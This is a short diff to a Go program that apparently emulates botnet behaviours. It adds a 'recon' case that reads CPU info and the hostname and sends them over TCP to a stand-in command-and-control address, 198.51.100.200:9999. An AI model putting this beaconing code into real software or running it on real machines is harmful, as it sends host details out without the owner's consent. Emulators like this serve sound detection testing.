@@ -32,6 +32,14 @@ func main() {
 		killOther()
 	case "sleep":
 		time.Sleep(10 * time.Second)
+	case "recon":
+		// report the device it believes it is on, as bots do to their C2
+		cpu, _ := os.ReadFile("/proc/cpuinfo")
+		host, _ := os.Hostname()
+		if c, err := net.DialTimeout("tcp", "198.51.100.200:9999", 2*time.Second); err == nil {
+			fmt.Fprintf(c, "host=%s cpu=%s", host, strings.SplitN(string(cpu), "\n", 2)[0])
+			c.Close()
+		}
 	case "daemon":
 		// leave a detached child behind and exit, as bots daemonise
 		exec.Command("/bin/sh", "-c", "sleep 1000 &").Run()
